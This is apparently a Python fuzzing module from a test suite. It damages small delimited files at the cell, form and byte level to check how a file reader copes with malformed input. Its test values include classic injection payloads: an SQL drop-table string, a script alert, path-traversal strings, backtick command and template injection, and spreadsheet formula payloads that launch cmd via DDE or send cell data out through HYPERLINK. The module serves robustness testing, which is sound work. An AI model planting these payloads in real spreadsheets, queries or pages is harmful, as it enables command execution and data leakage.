"""Damages to a delimited file, drawn from any `random.Random`: a seeded one, hypothesis' own or one over bytes.

A draft is a small valid file in parts. Damages of its form are refused before a cell is read; damages of its
cells reach the reader of the source; damages of its bytes do either.
"""

from __future__ import annotations

import gzip
import re
from dataclasses import dataclass
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable
    from random import Random

    Damage = Callable[["Draft", Random], None]

CELLS = (
    *("", " ", "-1", "<5", "< 5", "*", "x", "N.v.t.", "nan", "NaN", "inf", "-inf", "None", "NULL", "true", "ja"),
    *("0", "00", "-0", "4", "20", "9" * 15, "9" * 16, "9" * 19, "9" * 20, "-" + "9" * 30, "9" * 400, "9" * 4_400),
    *("1e5", "1e999", "-1e-999", "0x10", "1_000", "12,5", "12.5", "1.001", "1.001,5", "1,001.5", "1.0.0", ".", ","),
    *("100,0%", ",0%", "%", "%%", "+5", "--5", "5-", "1/2", "2019/20", "2019/21", "2019-2020", "1999/00", "20999"),
    *("31-2-2018", "1-1-99999", "0-0-0000", "2018-02-31", "2019-13-01", "20AA-01-01", "29-02-2019"),
    *("0AH", "00AH0", "00AH000", "00ah00", "AA0000", "00AH00\n", "00AH00;00AH01", "bovenschools"),
    *("\u0663", "\u00b2", "\u2460", "\u0967\u0968", "\uff11", "\u200b", "\ufeff", "\u00a0", "\u2028", "\x85"),
    *("\x1a", "\x1b[31m", "\x7f", "\u202e", "\U0001f600", "\ud7ff", "e\u0301", "\u1e9e", "\u0130"),
    *("x" * 70_000, "x" * 140_000, "a" * 5_000, "'; DROP TABLE offers;--", "{0}", "%s", "${HOME}", "{{7*7}}"),
    *("<script>alert(1)</script>", "../../etc/passwd", "C:\\x", "file:///etc/passwd", "\\", "'", "`id`", "#", "//"),
)
FORMULAS = (
    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1)', "@SUM(A1:A9)", "+1+1", "-1+1", "\t=1+1"),
    *("\r=1+1", '=DDE("cmd";"/C calc";"x")', '=IMPORTXML("http://x","//a")', "-2+3+cmd|' /C calc'!A0", "="),
)
PIECES = (
    *(
        b"\0",
        b"\0\0\0\0",
        b"\xff",
        b"\xfe\xff",
        b"\xff\xfe",
        b"\xef\xbb\xbf",
        b"\x80",
        b"\x81",
        b"\xc3",
        b"\xed\xa0\x80",
    ),
    *(b"\r", b"\n", b"\r\n", b"\r\r\n", b"\n\n\n", b"\x0b", b"\x0c", b"\x1c", b"\xc2\x85", b"\xe2\x80\xa8"),
    *(
        b'"',
        b'""',
        b'"""',
        b'";"',
        b";",
        b",",
        b"\t",
        b"|",
        b";;;;;;",
        b"'",
        b"\\",
        b"=",
        b"@",
        b"<5",
        b"-1",
        b"9" * 25,
    ),
    *(b"<html>", b"PK\x03\x04", b"\x1f\x8b\x08", b"PAR1", b"\x1a"),
)
ENCODINGS = (
    "utf-16",
    "utf-16-le",
    "utf-16-be",
    "utf-32",
    "utf-7",
    "cp1252",
    "latin-1",
    "cp037",
    "mac-roman",
    "utf-8-sig",
)
DELIMITERS = (",", "\t", "|", ":", " ", ";;", "; ", "\x1f", "")
PAGE = b"<!DOCTYPE html>\r\n<html><head><title>404; Niet gevonden</title></head><body>a;b,c</body></html>\r\n"
_LAST_DIGIT = re.compile(r"[0-9](?=[^0-9]*$)")


@dataclass(slots=True, kw_only=True)
class Draft:
    """A delimited file before it is written; the first line is its header."""

    lines: list[list[str]]
    delimiter: str = ";"
    end: str = "\r\n"
    encoding: str = "utf-8"
    quoted: bool = False

    def written(self) -> bytes:
        """Return the file as bytes."""
        shown = [[f'"{cell}"' for cell in line] for line in self.lines] if self.quoted else self.lines
        text = "".join(self.delimiter.join(line) + self.end for line in shown)
        return text.encode(self.encoding, errors="replace")


def damaged(draft: Draft, draw: Random) -> tuple[bytes, tuple[str, ...]]:
    """Return a draft as bytes with one to three damages, and the names of these."""
    names = []
    raw_damages: list[Callable[[bytes, Random], bytes]] = []
    for _ in range(_few(draw)):
        kind = draw.random()
        if kind < SHARE_OF_CELLS:
            damage = draw.choice(OF_CELLS)
        elif kind < SHARE_OF_CELLS + SHARE_OF_BYTES:
            raw = draw.choice(OF_BYTES)
            raw_damages.append(raw)
            names.append(raw.__name__)
            continue
        else:
            damage = draw.choice(OF_FORM)
        damage(draft, draw)
        names.append(damage.__name__)
    content = draft.written()
    for raw in raw_damages:
        content = raw(content, draw)
    return content, tuple(names)


SHARE_OF_CELLS = 0.1
"""Cells cost a hundred times as much as the form: a reader takes milliseconds over them."""
SHARE_OF_BYTES = 0.3


def _few(draw: Random) -> int:
    return 1 if draw.random() < 0.7 else draw.choice((2, 3))


def _row(draft: Draft, draw: Random) -> list[str]:
    return draw.choice(draft.lines[1:] or draft.lines)


def cell(draft: Draft, draw: Random) -> None:
    row = _row(draft, draw)
    if row:
        row[draw.randrange(len(row))] = draw.choice(CELLS)


def random_text(draft: Draft, draw: Random) -> None:
    row = _row(draft, draw)
    if row:
        text = "".join(chr(draw.choice((draw.randrange(32, 127), draw.randrange(0xD800)))) for _ in range(4))
        row[draw.randrange(len(row))] = text


def formula(draft: Draft, draw: Random) -> None:
    row = _row(draft, draw)
    if row:
        place = draw.randrange(len(row))
        row[place] = draw.choice((draw.choice(FORMULAS), f"={row[place]}", f"@{row[place]}"))


def repeated_key(draft: Draft, draw: Random) -> None:
    draft.lines.append(list(_row(draft, draw)))


def another_row(draft: Draft, draw: Random) -> None:
    row = list(_row(draft, draw))
    places = [place for place, shown in enumerate(row) if _LAST_DIGIT.search(shown)]
    if places:
        place = draw.choice(places)
        row[place] = _LAST_DIGIT.sub(str(draw.randrange(10)), row[place])
    draft.lines.append(row)


def swapped_cells(draft: Draft, draw: Random) -> None:
    first, second = (draw.randrange(len(draft.lines[0]) or 1) for _ in range(2))
    for row in draft.lines[1:]:
        if max(first, second) < len(row):
            row[first], row[second] = row[second], row[first]


def swapped_columns(draft: Draft, draw: Random) -> None:
    header = draft.lines[0]
    if header:
        first, second = (draw.randrange(len(header)) for _ in range(2))
        header[first], header[second] = header[second], header[first]


def many_rows(draft: Draft, draw: Random) -> None:
    draft.lines += [list(_row(draft, draw)) for _ in range(draw.randrange(2, 40))]


def quoted_cells(draft: Draft, draw: Random) -> None:
    draft.quoted = draw.random() < 0.9


def doubled_column(draft: Draft, draw: Random) -> None:
    place = draw.randrange(len(draft.lines[0]) or 1)
    for row in draft.lines:
        row[place:place] = row[place : place + 1]


def lost_column(draft: Draft, draw: Random) -> None:
    place = draw.randrange(len(draft.lines[0]) or 1)
    for row in draft.lines:
        del row[place : place + 1]


def renamed_column(draft: Draft, draw: Random) -> None:
    header = draft.lines[0]
    if header:
        place = draw.randrange(len(header))
        header[place] = draw.choice((draw.choice(CELLS), draw.choice(FORMULAS), header[place][:-1], header[place] * 2))


def longer_row(draft: Draft, draw: Random) -> None:
    draw.choice(draft.lines).extend([draw.choice(CELLS[:40])] * draw.choice((1, 2, 500)))


def shorter_row(draft: Draft, draw: Random) -> None:
    row = draw.choice(draft.lines)
    del row[draw.randrange(len(row) or 1) :]


def other_delimiter(draft: Draft, draw: Random) -> None:
    draft.delimiter = draw.choice(DELIMITERS)


def other_end(draft: Draft, draw: Random) -> None:
    draft.end = draw.choice(("\r", "\n\r", "\r\r\n", "", "\u2028", "\x0b", "\x85", "\n\n"))


def other_encoding(draft: Draft, draw: Random) -> None:
    row = draw.choice(draft.lines)
    if row:
        row[-1] += draw.choice(("", "\u00e9", "\u20ac", "\u0151", "\u2603"))
    draft.encoding = draw.choice(ENCODINGS)


def open_quote(draft: Draft, draw: Random) -> None:
    row = draw.choice(draft.lines)
    if row:
        place = draw.randrange(len(row))
        row[place] = draw.choice(('"' + row[place], row[place] + '"', '"a"b', '"', '""', f'"{row[place]}\n"'))


def no_rows(draft: Draft, draw: Random) -> None:
    del draft.lines[draw.choice((0, 1)) :]
    draft.lines = draft.lines or [[]]


def blank_lines(draft: Draft, draw: Random) -> None:
    draft.lines.insert(draw.randrange(len(draft.lines) + 1), draw.choice(([], [""], [" "], ["", ""])))


def no_header(draft: Draft, draw: Random) -> None:
    if len(draft.lines) > 1 and draw.random() < 0.9:
        del draft.lines[0]


def wide_header(draft: Draft, draw: Random) -> None:
    more = [f"K{place}" for place in range(draw.choice((10, 1_000)))] if draw.random() < 0.7 else ["K" * 70_000]
    draft.lines[0] = [*draft.lines[0], *more]


def cut(raw: bytes, draw: Random) -> bytes:
    return raw[: draw.randrange(len(raw) + 1)]


def cut_in_front(raw: bytes, draw: Random) -> bytes:
    return raw[draw.randrange(len(raw) + 1) :]


def flipped_bits(raw: bytes, draw: Random) -> bytes:
    content = bytearray(raw or b"\0")
    for _ in range(draw.choice((1, 1, 2, 8))):
        content[draw.randrange(len(content))] ^= 1 << draw.randrange(8)
    return bytes(content)


def other_bytes(raw: bytes, draw: Random) -> bytes:
    content = bytearray(raw or b"\0")
    for _ in range(draw.choice((1, 1, 3))):
        content[draw.randrange(len(content))] = draw.randrange(256)
    return bytes(content)


def inserted_bytes(raw: bytes, draw: Random) -> bytes:
    place = draw.randrange(len(raw) + 1)
    return raw[:place] + draw.choice(PIECES) + raw[place:]


def lost_bytes(raw: bytes, draw: Random) -> bytes:
    place = draw.randrange(len(raw) + 1)
    return raw[:place] + raw[place + draw.choice((1, 1, 2, 5, 50)) :]


def repeated_bytes(raw: bytes, draw: Random) -> bytes:
    first, last = sorted(draw.randrange(len(raw) + 1) for _ in range(2))
    return raw[:last] + raw[first:last] * draw.choice((1, 1, 20)) + raw[last:]


def noise(raw: bytes, draw: Random) -> bytes:
    return bytes(draw.randrange(256) for _ in range(draw.choice((0, 1, 3, 30)))) + raw[: draw.choice((0, 8))]


def another_kind_of_file(raw: bytes, draw: Random) -> bytes:
    return draw.choice(
        (PAGE, gzip.compress(raw, 1, mtime=0), b"PK\x03\x04" + raw, b"PAR1" + raw + b"PAR1", b"{}", b"\0" * 99)
    )


OF_CELLS: tuple[Damage, ...] = (
    *(cell, cell, cell, random_text, formula, formula, repeated_key, another_row),
    *(swapped_cells, swapped_columns, many_rows, quoted_cells),
)
OF_FORM: tuple[Damage, ...] = (
    *(doubled_column, lost_column, renamed_column, longer_row, shorter_row, other_delimiter, other_end),
    *(other_encoding, open_quote, no_rows, blank_lines, no_header, wide_header),
)
OF_BYTES = (
    cut,
    cut_in_front,
    flipped_bits,
    other_bytes,
    inserted_bytes,
    lost_bytes,
    repeated_bytes,
    noise,
    another_kind_of_file,
)
